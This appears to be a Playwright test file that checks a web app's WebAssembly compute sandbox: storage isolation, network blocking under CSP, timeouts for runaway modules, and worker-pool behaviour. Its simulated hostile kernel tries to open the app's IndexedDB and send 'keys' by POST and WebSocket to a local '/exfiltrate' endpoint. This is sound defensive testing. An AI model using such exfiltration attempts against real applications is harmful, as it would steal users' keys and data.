// The compute sandbox holds (issue 9, "Sandbox"): code running where a kernel runs — the kernel
// worker inside <iframe sandbox="allow-scripts"> under the sandbox page's CSP — cannot read the
// app's IndexedDB, cannot fetch or open a WebSocket even to a server that allows any origin, and
// a WebAssembly unit that loops for ever is killed at its time bound, while the person's keys and
// ledger stay exactly as they were.
//
// A zero-import module cannot call JavaScript at all, so the hostile JavaScript is evaluated
// directly in the sandbox's worker and frame (Playwright's evaluate): the strongest thing a
// module could ever do if it escaped WebAssembly. The compute runtime is loaded into the app's
// page from the same origin (e2e/support/compute-harness-bundle.ts); no policy is relaxed.
import http from 'node:http';
import { createHash } from 'node:crypto';
import type { AddressInfo, Socket } from 'node:net';
import type { Page, Worker } from '@playwright/test';
import { expect, test } from './fixtures';
import { loadComputeHarness } from './support/compute-harness-bundle';
import { wat } from '../src/compute/wat.test-kit';

/** A server that answers anything with Access-Control-Allow-Origin: *, and accepts WebSockets. */
async function startOpenServer() {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' }).end('secret-free reply');
  });
  const sockets = new Set<Socket>();
  server.on('connection', (s) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    const accept = createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    hits, origin: `http://127.0.0.1:${port}`, ws: `ws://127.0.0.1:${port}`,
    close: () => new Promise<void>((r) => { for (const s of sockets) s.destroy(); server.close(() => r()); }),
  };
}

/** What a kernel would try, given JavaScript: each attempt's outcome as a word. */
async function attemptHarm(target: Page | Worker, server: { origin: string; ws: string }): Promise<Record<string, string>> {
  return (target as Page).evaluate(async ({ origin, ws }: { origin: string; ws: string }) => {
    const settle = <T>(p: Promise<T>, ms = 3_000) => Promise.race([p, new Promise<T>((_, no) => setTimeout(() => no(new Error('no answer')), ms))]);
    const out: Record<string, string> = { origin: String(self.origin) };
    try {
      const request = indexedDB.open('hourmesh');
      out.indexedDB = await settle(new Promise((ok) => {
        request.onsuccess = () => ok('OPENED');
        request.onerror = () => ok(`refused: ${request.error?.name}`);
      }));
    } catch (e) { out.indexedDB = `refused: ${(e as Error).name}`; }
    try {
      out.fetch = `READ: ${await settle((await fetch(`${origin}/exfiltrate`, { method: 'POST', body: 'keys' })).text())}`;
    } catch (e) { out.fetch = `refused: ${(e as Error).message}`; }
    try {
      const socket = new WebSocket(`${ws}/exfiltrate`);
      out.webSocket = await settle(new Promise((ok) => {
        socket.onopen = () => ok('OPEN');
        socket.onerror = () => ok('refused: error event');
        socket.onclose = () => ok('refused: closed');
      }));
    } catch (e) { out.webSocket = `refused: ${(e as Error).name}`; }
    return out;
  }, { origin: server.origin, ws: server.ws });
}

/** The person's keys and ledger as stored: identity, entries and chain heads, as text. */
function storedTruth(page: Page): Promise<{ databases: string[]; identity: unknown[]; entries: unknown[]; heads: unknown[] }> {
  return page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((ok, no) => {
      const r = indexedDB.open('hourmesh');
      r.onsuccess = () => ok(r.result);
      r.onerror = () => no(r.error);
    });
    const show = (v: unknown): unknown =>
      Array.isArray(v) ? v.map(show)
        : v instanceof Uint8Array ? Array.from(v).join(',')
        : v instanceof CryptoKey ? `CryptoKey ${v.type} ${JSON.stringify(v.algorithm)} ${v.usages.join('+')}`
          : v && typeof v === 'object' ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, show(x)])) : v;
    const dump: Record<string, unknown[]> = {};
    for (const store of ['identity', 'entries', 'heads']) {
      dump[store] = await new Promise((ok) => {
        const r = db.transaction(store).objectStore(store).getAll();
        r.onsuccess = () => ok(show(r.result) as unknown[]);
      });
    }
    db.close();
    return { databases: (await indexedDB.databases()).map((d) => d.name!).sort(), identity: dump.identity!, entries: dump.entries!, heads: dump.heads! };
  });
}

const LOOP_FOR_EVER = `(module (memory (export "memory") 1 1)
  (func (export "input") (param i32) (result i32) (i32.const 0))
  (func (export "output") (result i32) (i32.const 0))
  (func (export "run") (param i32) (result i32) (loop $spin (br $spin)) (i32.const 0)))`;

test('a hostile unit cannot read storage, reach the network or outlive its time bound', async ({ openPerson }) => {
  const server = await startOpenServer();
  try {
    const dana = await openPerson('Dana');
    await dana.introduce();
    await dana.shell.open('Economy');
    await dana.economy.create('Sandbox street');
    await dana.economy.expectEntries(1);
    const before = await storedTruth(dana.page);
    expect(before.identity).toHaveLength(1);
    expect(before.entries.length).toBeGreaterThan(0);

    // The sandbox page is served with its own strict policy; the app keeps its own.
    const sandboxResponse = await dana.page.request.get('/sandbox.html');
    const sandboxCsp = sandboxResponse.headers()['content-security-policy'];
    expect(sandboxCsp).toContain("connect-src 'none'");
    expect(sandboxCsp).toContain("frame-ancestors 'self'");
    expect(sandboxCsp).not.toContain("'self' 'wasm-unsafe-eval'");
    const appCsp = (await dana.page.request.get('/')).headers()['content-security-policy'] ?? '';
    // The app's scripts: its own files, WebAssembly, and the sandbox's one script by hash (offline srcdoc).
    expect(appCsp).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+';/);
    expect(appCsp.split(/[\s;]+/)).not.toContain("'unsafe-eval'");
    expect(appCsp.split(/[\s;]+/)).not.toContain("'unsafe-inline'");

    // Control: from a page with no policy the server is reachable, so only the policy stops the sandbox.
    const control = await dana.context.newPage();
    expect(await attemptHarm(control, server)).toMatchObject({ fetch: 'READ: secret-free reply', webSocket: 'OPEN' });
    await control.close();
    const controlHits = server.hits.length;
    expect(controlHits).toBe(2);

    // An honest unit runs in a worker inside the sandbox frame.
    await loadComputeHarness(dana.page);
    const workerSeen = dana.page.waitForEvent('worker');
    const honest = await dana.page.evaluate(async () => {
      const c = (globalThis as any).__hourmeshCompute;
      (globalThis as any).pool = c.createComputePool({ size: 1 });
      const r = await (globalThis as any).pool.runUnit('primes', c.primesInput(0, 100_000), 20_000);
      return { count: new DataView(r.output.buffer).getUint32(0, true), claim: r.chMilli };
    });
    expect(honest).toEqual({ count: 9_592, claim: 1 });
    await expect.poll(() => dana.page.frames().filter((f) => f.url().endsWith('/sandbox.html')).length).toBe(1);
    const frame = dana.page.frames().find((f) => f.url().endsWith('/sandbox.html'))!;
    expect(await dana.page.locator('iframe[data-hourmesh-sandbox]').getAttribute('sandbox')).toBe('allow-scripts');
    const worker = await workerSeen;
    expect(worker.url()).toMatch(/^blob:null\//);

    // Everything a kernel's thread (the worker) or its host page (the frame) tries fails safely.
    for (const target of [worker, frame]) {
      const tried = await attemptHarm(target as Worker, server);
      expect(Object.keys(tried)).toEqual(['origin', 'indexedDB', 'fetch', 'webSocket']);
      expect(tried.origin).toBe('null');
      expect(tried.indexedDB).toMatch(/^refused: SecurityError/);
      expect(tried.fetch).toMatch(/^refused:/);
      expect(tried.webSocket).toMatch(/^refused:/);
    }
    expect(await frame.evaluate(() => { try { return String(parent.document.title); } catch (e) { return `refused: ${(e as Error).name}`; } }))
      .toBe('refused: SecurityError');
    expect(server.hits.length, `the sandbox reached the server: ${server.hits.slice(controlHits).join(', ')}`).toBe(controlHits);

    // A WebAssembly unit that loops for ever is stopped at its bound; the next unit gets a fresh worker.
    const loopBytes = Array.from(wat(LOOP_FOR_EVER));
    const looped = await dana.page.evaluate(async (bytes) => {
      const c = (globalThis as any).__hourmeshCompute;
      const started = performance.now();
      try {
        await (globalThis as any).pool.runUnit(new Uint8Array(bytes), new Uint8Array(4), 1_000);
        return { reason: 'finished?!', after: 0 };
      } catch (e) {
        return { reason: (e as InstanceType<typeof c.UnitError>).reason, after: performance.now() - started };
      }
    }, loopBytes);
    expect(looped.reason).toBe('timeout');
    expect(looped.after).toBeGreaterThanOrEqual(1_000);
    const again = await dana.page.evaluate(async () => {
      const c = (globalThis as any).__hourmeshCompute;
      const r = await (globalThis as any).pool.runUnit('primes', c.primesInput(0, 1_000), 20_000);
      return new DataView(r.output.buffer).getUint32(0, true);
    });
    expect(again).toBe(168);
    await expect.poll(() => dana.page.workers().length).toBe(1); // the looping worker is gone

    // The app is unharmed: same keys, same ledger, no new database, and it still works.
    expect(await storedTruth(dana.page)).toEqual(before);
    await dana.shell.open('Wallet');
    await expect(dana.wallet.balance('MH')).toHaveText('0 MH');
  } finally {
    await server.close();
  }
});

test('the sandbox works offline, served from the app’s precache with its policy', async ({ openPerson }) => {
  const erin = await openPerson('Erin');
  await erin.shell.waitUntilOfflineReady();
  await erin.context.setOffline(true);
  await erin.page.reload();
  await expect(erin.shell.connectivity()).toContainText('Offline');
  await loadComputeHarness(erin.page);
  const result = await erin.page.evaluate(async () => {
    const c = (globalThis as any).__hourmeshCompute;
    const pool = c.createComputePool({ size: 1 });
    const r = await pool.runUnit('monte-carlo-pi', c.monteCarloInput(1n, 100_000), 20_000);
    return new DataView(r.output.buffer).getBigUint64(8, true).toString();
  });
  expect(result).toBe('100000');
  // Offline the sandbox is usually an srcdoc frame (Chromium does not let the service worker answer
  // an opaque-origin frame's navigation; once in a while its HTTP cache does): either way, still an
  // opaque origin, still without network or storage.
  // Playwright learns of frames and their URLs asynchronously: wait for it.
  const isSandbox = (url: string) => url === 'about:srcdoc' || url.endsWith('/sandbox.html');
  await expect.poll(() => erin.page.frames().map((f) => f.url()).filter(isSandbox).length, { message: 'the sandbox frame' }).toBe(1);
  const frame = erin.page.frames().find((f) => isSandbox(f.url()))!;
  await expect.poll(() => erin.page.workers().length).toBe(1); // Playwright learns of workers asynchronously
  const worker = erin.page.workers()[0]!;
  for (const target of [frame, worker]) {
    expect(await (target as Page).evaluate(async () => {
      const tried: string[] = [String(self.origin)];
      try { indexedDB.open('hourmesh'); tried.push('idb'); } catch (e) { tried.push((e as Error).name); }
      try { await fetch('/index.html'); tried.push('fetched'); } catch { tried.push('no fetch'); }
      return tried;
    })).toEqual(['null', 'SecurityError', 'no fetch']);
  }
});

test('the pool runs at most its size at once, pauses, resizes, refuses bad modules and stops', async ({ openPerson }) => {
  const fay = await openPerson('Fay');
  await loadComputeHarness(fay.page);
  const page = fay.page;
  const withImport = Array.from(wat(`(module (import "env" "now" (func)) (memory (export "memory") 1 1)
    (func (export "input") (param i32) (result i32) (i32.const 0))
    (func (export "output") (result i32) (i32.const 0))
    (func (export "run") (param i32) (result i32) (i32.const 0)))`));
  const trapping = Array.from(wat(`(module (memory (export "memory") 1 1)
    (func (export "input") (param i32) (result i32) (i32.const 0))
    (func (export "output") (result i32) (i32.const 0))
    (func (export "run") (param i32) (result i32) (unreachable)))`));

  // Four units on a pool of two: two run, two wait.
  await page.evaluate(() => {
    const g = globalThis as any;
    const c = g.__hourmeshCompute;
    g.pool = c.createComputePool({ size: 2 });
    g.done = [];
    g.maxRunning = 0;
    setInterval(() => { g.maxRunning = Math.max(g.maxRunning, g.pool.running); }, 2);
    // The pause comes as the first unit finishes, in the page itself: pausing from the test after
    // seeing two run raced the units (under load all four could finish in between).
    for (let i = 0; i < 4; i++) {
      g.pool.runUnit('primes', c.primesInput(0, 4_000_000 + i), 60_000).then((r: any) => {
        g.done.push(r.chMilli);
        if (g.done.length === 1) g.pool.pause();
      });
    }
  });
  // Paused: what runs finishes (the pool may have started a third unit as the first finished,
  // before the pause), nothing new starts.
  await expect.poll(() => page.evaluate(() => (globalThis as any).pool.paused), { timeout: 60_000 }).toBe(true);
  await expect.poll(() => page.evaluate(() => (globalThis as any).pool.running), { timeout: 60_000 }).toBe(0);
  const doneWhenPaused = await page.evaluate(() => (globalThis as any).done.length);
  expect([2, 3]).toContain(doneWhenPaused);
  await page.waitForTimeout(500); // a pause must hold for a while: nothing may start meanwhile
  expect(await page.evaluate(() => [(globalThis as any).pool.running, (globalThis as any).done.length, (globalThis as any).maxRunning, (globalThis as any).pool.paused]))
    .toEqual([0, doneWhenPaused, 2, true]);
  // Resized to one and resumed: the rest run one at a time.
  await page.evaluate(() => {
    const g = globalThis as any;
    g.pool.setSize(1);
    g.maxRunning = 0;
    g.pool.resume();
  });
  await expect.poll(() => page.evaluate(() => (globalThis as any).done.length), { timeout: 60_000 }).toBe(4);
  expect(await page.evaluate(() => [(globalThis as any).maxRunning, (globalThis as any).pool.size])).toEqual([1, 1]);
  expect(await page.evaluate(() => (globalThis as any).done.every((ch: number) => Number.isInteger(ch) && ch >= 1))).toBe(true);

  // A module with an import never reaches a worker; a trapping one is reported as a trap.
  const failures = await page.evaluate(async ({ withImport, trapping }) => {
    const pool = (globalThis as any).pool;
    const reasonOf = (p: Promise<unknown>) => p.then(() => 'ran?!', (e: { reason: string; message: string }) => `${e.reason}: ${e.message}`);
    return [
      await reasonOf(pool.runUnit(new Uint8Array(withImport), new Uint8Array(1), 5_000)),
      await reasonOf(pool.runUnit(new Uint8Array(trapping), new Uint8Array(1), 5_000)),
      await reasonOf(pool.runUnit('primes', new Uint8Array(1024 * 1024 + 1), 5_000)),
    ];
  }, { withImport, trapping });
  expect(failures[0]).toBe('refused: It has imports: env.now (function). A kernel may import nothing.');
  expect(failures[1]).toMatch(/^trap: the kernel trapped: .*unreachable/);
  expect(failures[2]).toMatch(/^refused: the input is 1048577 bytes, over the limit/);

  // The device's speed is measured, then the pool stops: waiting units are cancelled, the frame goes.
  const speed = await page.evaluate(() => (globalThis as any).pool.measureSpeed());
  expect(speed.factor).toBeGreaterThan(0);
  expect(await page.evaluate(() => (globalThis as any).pool.speedFactor)).toBe(speed.factor);
  const stopped = await page.evaluate(async () => {
    const g = globalThis as any;
    const c = g.__hourmeshCompute;
    const units = [0, 1, 2].map((i) => g.pool.runUnit('primes', c.primesInput(0, 5_000_000 + i), 60_000).then(() => 'ran', (e: { reason: string }) => e.reason));
    g.pool.terminate();
    const after = await g.pool.runUnit('primes', c.primesInput(0, 10), 1_000).then(() => 'ran', (e: { reason: string }) => e.reason);
    return [...(await Promise.all(units)), after];
  });
  expect(stopped).toEqual(['cancelled', 'cancelled', 'cancelled', 'cancelled']);
  await expect(page.locator('iframe[data-hourmesh-sandbox]')).toHaveCount(0);
});
